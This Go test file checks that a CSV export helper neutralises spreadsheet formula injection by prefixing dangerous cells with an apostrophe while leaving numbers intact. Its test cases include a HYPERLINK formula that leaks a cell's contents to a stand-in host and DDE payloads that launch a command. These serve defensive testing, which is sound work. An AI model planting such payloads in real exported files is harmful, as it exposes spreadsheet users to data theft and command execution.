package api

import (
	"encoding/csv"
	"net/http/httptest"
	"testing"
)

// Every cell that a spreadsheet would read as a formula comes out as text;
// numbers, including negative ones, stay numbers.
func TestCSVCellsCannotStartAFormula(t *testing.T) {
	cases := map[string]string{
		`=HYPERLINK("http://evil.example/?"&A1,"Click")`: `'=HYPERLINK("http://evil.example/?"&A1,"Click")`,
		`+cmd|' /C calc'!A0`:                             `'+cmd|' /C calc'!A0`,
		`-2+3+cmd|' /C calc'!A0`:                         `'-2+3+cmd|' /C calc'!A0`,
		`@SUM(1+9)*cmd|' /C calc'!A0`:                    `'@SUM(1+9)*cmd|' /C calc'!A0`,
		"\t=1+1":                                         "'\t=1+1",
		"\r=1+1":                                         "'\r=1+1",
		"\x00=1":                                         "'\x00=1",
		"-":                                              "'-",
		"pro":                                            "pro",
		"":                                               "",
		"a=b":                                            "a=b",
		"-100":                                           "-100",
		"-12.5":                                          "-12.5",
		"42":                                             "42",
		"1.5e-07":                                        "1.5e-07",
		"'already":                                       "'already",
	}
	for in, want := range cases {
		if got := SafeCell(in); got != want {
			t.Errorf("SafeCell(%q) = %q, want %q", in, got, want)
		}
	}
}

// writeCSV applies it to every cell, headers included, and the file still
// parses back to the same number of fields.
func TestWriteCSVNeutralisesEveryCell(t *testing.T) {
	w := httptest.NewRecorder()
	writeCSV(w, "x.csv", [][]string{{"start", "=plan"}, {"2026-11-23T08:00:00Z", "@SUM(A1)"}, {"-100", "+1"}})
	recs, err := csv.NewReader(w.Body).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if recs[0][1] != "'=plan" || recs[1][1] != "'@SUM(A1)" || recs[2][0] != "-100" || recs[2][1] != "'+1" {
		t.Fatalf("rows %q", recs)
	}
	if w.Header().Get("X-Content-Type-Options") != "nosniff" {
		t.Fatal("no nosniff")
	}
}
